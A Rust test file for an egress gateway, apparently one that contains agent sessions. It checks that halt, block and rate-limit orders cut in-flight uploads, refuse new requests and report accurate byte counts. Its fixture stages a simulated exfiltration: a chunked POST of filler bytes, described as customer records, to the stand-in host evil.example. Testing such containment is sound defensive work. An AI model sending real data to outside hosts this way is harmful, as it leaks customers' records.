//! Orders: what starts under one is refused, what is under way is cut, and the counts are right.

use std::{sync::Arc, time::Duration};

use estoppel_link::{
    LinkEvent,
    frame::{Action, ActionResult, Verb},
};
use estoppel_model::{
    Actor, Clock as _,
    FlowVerdict::{Allowed, Blocked, Cut},
    IncidentId, Limit, Order, OrderBody, OrderId, Scope, SystemClock,
};
use tokio::{io::AsyncWriteExt as _, net::TcpStream};

use crate::support::{
    Answers, Control, Harness, PATIENCE, REASON, SESSION, Sink, client_hello, config, ending,
    reset, subject,
};

/// Short, and longer than what a busy machine takes between two pings.
const LEASE: Duration = Duration::from_secs(3);

/// A gateway with an open upload, of which the sink has some.
async fn uploading() -> (Harness, Sink, TcpStream) {
    uploading_to(Control::start().await).await
}

async fn uploading_to(server: Control) -> (Harness, Sink, TcpStream) {
    let sink = Sink::start(Answers::Nothing).await;
    let harness = server.gateway(config(&[("evil.example:80", sink.address)])).await;
    let mut client = harness.connect().await;
    let head = "POST http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\
                Transfer-Encoding: chunked\r\n\r\n";
    client.write_all(head.as_bytes()).await.unwrap();
    client.write_all(&chunk()).await.unwrap();
    sink.received(10_000).await;
    (harness, sink, client)
}

/// 10,000 bytes of customer records.
fn chunk() -> Vec<u8> {
    [b"2710\r\n".as_slice(), &[b'x'; 10_000], b"\r\n"].concat()
}

/// Writes until the connection is gone, which must be before 50 MB are.
async fn write_on(client: &mut TcpStream) {
    let writing = async {
        for _ in 0..5_000 {
            if client.write_all(&chunk()).await.is_err() {
                return;
            }
        }
        panic!("the connection still takes bytes");
    };
    tokio::time::timeout(PATIENCE, writing).await.unwrap();
}

/// Rows K7, P5: an upload is cut in the middle; the destination's own count is the recorded one.
#[tokio::test]
async fn a_halt_cuts_what_is_in_flight() {
    let (harness, sink, mut client) = uploading().await;
    for _ in 0..20 {
        client.write_all(&chunk()).await.unwrap();
    }
    let order = harness.halt(&format!("session:{SESSION}")).await;
    write_on(&mut client).await;
    sink.ended(1).await;
    let settlement = harness.orders.settlement(order.id).await;
    assert_eq!(settlement.connections_cut, 1);
    assert_eq!(settlement.bytes_out, sink.count() as u64, "by the sink's own count");
    assert!(settlement.last_byte_at.is_some() && settlement.not_interruptible.is_empty());
    assert_eq!(harness.orders.verdicts(1).await, [Cut]);
    assert_eq!(harness.sent(), sink.count() as u64);
    assert_eq!(harness.gateway.stats().flows_open, 0);
}

/// Row K7: the client learns it at once, even when it only waits.
#[tokio::test]
async fn a_waiting_client_is_reset() {
    let (harness, sink, mut client) = uploading().await;
    harness.halt("global").await;
    reset(&mut client).await;
    sink.ended(1).await;
}

/// Row P5: a block cuts the flows to its destination and no other.
#[tokio::test]
async fn a_block_cuts_its_destination_only() {
    let sink = Sink::start(Answers::Nothing).await;
    let harness = Harness::start(config(&[
        ("evil.example:443", sink.address),
        ("good.example:443", sink.address),
    ]))
    .await;
    let (first, second) = (client_hello("evil.example"), client_hello("good.example"));
    let mut evil = harness.tunnel("evil.example:443").await;
    evil.write_all(&first).await.unwrap();
    let mut good = harness.tunnel("good.example:443").await;
    good.write_all(&second).await.unwrap();
    sink.received(first.len() + second.len()).await;
    let order = harness.block(&format!("session:{SESSION}"), "evil.example").await;
    reset(&mut evil).await;
    assert_eq!(harness.orders.settlement(order.id).await.connections_cut, 1);
    good.write_all(b"still open").await.unwrap();
    sink.received(first.len() + second.len() + 10).await;
    // And it stays closed for new ones.
    let answer =
        harness.exchange("CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n");
    let answer = answer.await;
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains(&order.id.to_string()));
    assert_eq!(harness.orders.verdicts(2).await, [Cut, Blocked]);
}

/// Row P5: a block of an address holds for the names that lead there.
#[tokio::test]
async fn a_block_of_an_address_reaches_its_names() {
    let (harness, sink, mut client) = uploading().await;
    let order = harness.block("global", &sink.address.to_string()).await;
    reset(&mut client).await;
    assert_eq!(harness.orders.settlement(order.id).await.connections_cut, 1);
    let count = sink.count();
    assert!(harness.fetch("evil.example").await.starts_with("HTTP/1.1 403"));
    assert_eq!((sink.connections(), sink.count()), (1, count));
}

#[tokio::test]
async fn a_halt_of_another_session_cuts_nothing() {
    let (harness, sink, mut client) = uploading().await;
    let order = harness.halt("session:other").await;
    let settlement = harness.orders.settlement(order.id).await;
    assert_eq!((settlement.connections_cut, settlement.bytes_out), (0, 0));
    let count = sink.count();
    client.write_all(&chunk()).await.unwrap();
    sink.received(count + 10_000).await;
}

/// Row P4: a halted session gets nothing through, and is told why.
#[tokio::test]
async fn a_halted_session_is_refused() {
    let sink = Sink::start(Answers::Http).await;
    let harness = Harness::start(config(&[("good.example:80", sink.address)])).await;
    assert!(harness.fetch("good.example").await.starts_with("HTTP/1.1 200"));
    let order = harness.halt(&format!("session:{SESSION}")).await;
    let answer = harness.fetch("good.example").await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    let json = answer.split("\r\n\r\n").nth(1).unwrap();
    let problem: serde_json::Value = serde_json::from_str(json).unwrap();
    assert_eq!(problem["order"]["id"], order.id.to_string());
    assert_eq!(problem["order"]["reason"], REASON);
    assert_eq!(harness.orders.verdicts(2).await, [Allowed, Blocked]);
    assert_eq!(sink.connections(), 1);
}

/// Invariant *stop-never-waits*: an order that is in the view holds before anybody is told of it.
#[tokio::test]
async fn each_write_asks_again() {
    let (harness, sink, mut client) = uploading().await;
    let count = sink.count();
    harness.hold_events(true);
    let order = harness.halt("global").await;
    write_on(&mut client).await;
    sink.ended(1).await;
    assert_eq!(sink.count(), count, "not a byte after the order");
    // The order that is told late is settled with what it has cut early.
    harness.orders.rows_when(|rows| !rows.is_empty()).await;
    harness.hold_events(false);
    let settlement = harness.orders.settlement(order.id).await;
    assert_eq!((settlement.connections_cut, settlement.bytes_out), (1, count as u64));
}

/// Invariant *lease*: when no server answers, nothing more goes out.
#[tokio::test]
async fn a_lost_lease_cuts_and_refuses() {
    let lease = |config: &mut estoppel_server::ServerConfig| config.lease = LEASE;
    let server = Control::with(lease, estoppel_link::Trust::system()).await;
    let (mut harness, _sink, mut client) = uploading_to(server).await;
    harness.end_server().await;
    reset(&mut client).await;
    let answer = harness.fetch("evil.example").await;
    assert!(answer.contains("urn:estoppel:problem:lease-lost"), "{answer}");
    assert_eq!(harness.orders.verdicts(2).await, [Cut, Blocked]);
}

/// When the orders end, so does the gateway: fail closed.
#[tokio::test]
async fn without_orders_nothing_is_accepted() {
    let sink = Sink::start(Answers::Nothing).await;
    let stopped = {
        let (harness, _sink, mut client) = uploading().await;
        let address = harness.gateway.local_addr();
        drop(harness);
        assert!(ending(&mut client).await.is_err());
        address
    };
    let refused = match TcpStream::connect(stopped).await {
        Ok(mut client) => {
            let _ = client.write_all(b"GET http://x.example/ HTTP/1.1\r\n\r\n").await;
            ending(&mut client).await.is_err()
        }
        Err(_) => true,
    };
    assert!(refused);
    assert_eq!(sink.connections(), 0);
}

#[tokio::test]
async fn a_limit_and_an_action_are_answered_truthfully() {
    let harness = Harness::start(config(&[])).await;
    let order = Order {
        id: OrderId::new(),
        scope: Scope::Global.into(),
        reason: REASON.to_owned(),
        issued_by: Actor::new("alice").unwrap(),
        issued_at: SystemClock.now(),
        incident: None,
        tenant: None,
        body: OrderBody::Limit { limit: Limit { read_only: true, ..Limit::default() } },
    };
    harness.tell(LinkEvent::Ordered(Arc::new(order.clone()))).await;
    let settlement = harness.orders.settlement(order.id).await;
    assert_eq!(settlement.containment.as_deref(), Some("a gateway does not enforce read_only"));
    let action = Action {
        id: uuid::Uuid::now_v7(),
        incident: IncidentId::new(),
        subject: subject(),
        verb: Verb::Freeze,
    };
    harness.tell(LinkEvent::Action(Box::new(action.clone()))).await;
    let outcome = harness.orders.outcome().await;
    assert_eq!((outcome.action, outcome.result), (action.id, ActionResult::NoSuchSubject));
}

/// Row R5: so many requests to a destination each minute; one more is answered with 429 and when to try again,
/// and nothing of it goes out. A limit that is released bounds nothing.
#[tokio::test]
async fn a_limit_bounds_the_requests_of_each_minute() {
    let sink = Sink::start(Answers::Http).await;
    let harness = Harness::start(config(&[
        ("model.example:80", sink.address),
        ("other.example:80", sink.address),
        ("model.example:443", sink.address),
    ]))
    .await;
    let limit = Limit {
        requests_per_minute: Some(2),
        steps_max: Some(9),
        cost_usd_max: Some(5.0),
        ..Limit::default()
    };
    let order = harness.limit(&format!("session:{SESSION}"), limit).await;
    let status = harness.status_when(order, |status| status.settled == 1).await;
    assert_eq!(
        status.enforcers[0].settlement["containment"],
        "2 requests each minute to each destination, a tunnel as one request; steps_max 9, a request or \
         a tunnel as one step and one call; a gateway does not enforce cost_usd_max 5"
    );
    for _ in 0..2 {
        assert!(harness.fetch("model.example").await.starts_with("HTTP/1.1 200"));
    }
    let answer = harness.fetch("model.example").await;
    assert!(answer.starts_with("HTTP/1.1 429"), "{answer}");
    let (head, json) = answer.split_once("\r\n\r\n").unwrap();
    let problem: serde_json::Value = serde_json::from_str(json).unwrap();
    assert_eq!(problem["type"], "urn:estoppel:problem:too-many-requests");
    assert_eq!(problem["destination"], "model.example:80");
    let wait = problem["retry_after_s"].as_u64().unwrap();
    assert!((1..=30).contains(&wait), "{answer}");
    assert!(head.contains(&format!("retry-after: {wait}\r\n")), "{answer}");
    assert_eq!(sink.connections(), 2, "nothing of it went out");
    // Another destination counts for itself; a tunnel is one request.
    assert!(harness.fetch("other.example").await.starts_with("HTTP/1.1 200"));
    drop(harness.tunnel("model.example:443").await);
    drop(harness.tunnel("model.example:443").await);
    let tunnel = "CONNECT model.example:443 HTTP/1.1\r\nHost: model.example:443\r\n\r\n";
    assert!(harness.exchange(tunnel).await.starts_with("HTTP/1.1 429"));

    harness.release(&format!("session:{SESSION}"), order).await;
    let mut looks = tokio::time::interval(Duration::from_millis(10));
    let released = async {
        while !harness.fetch("model.example").await.starts_with("HTTP/1.1 200") {
            looks.tick().await;
        }
    };
    tokio::time::timeout(PATIENCE, released).await.unwrap();
}

/// A limit of somebody else bounds nothing here.
#[tokio::test]
async fn a_limit_of_another_session_does_not_reach_this_one() {
    let sink = Sink::start(Answers::Http).await;
    let harness = Harness::start(config(&[("model.example:80", sink.address)])).await;
    let limit = Limit { requests_per_minute: Some(0), ..Limit::default() };
    harness.limit("session:other", limit).await;
    assert!(harness.fetch("model.example").await.starts_with("HTTP/1.1 200"));
    let limit = Limit { requests_per_minute: Some(0), ..Limit::default() };
    harness.limit("global", limit).await;
    let answer = harness.fetch("model.example").await;
    assert!(answer.starts_with("HTTP/1.1 429"), "{answer}");
    assert!(!answer.contains("retry-after"), "there is no time at which it may be: {answer}");
}
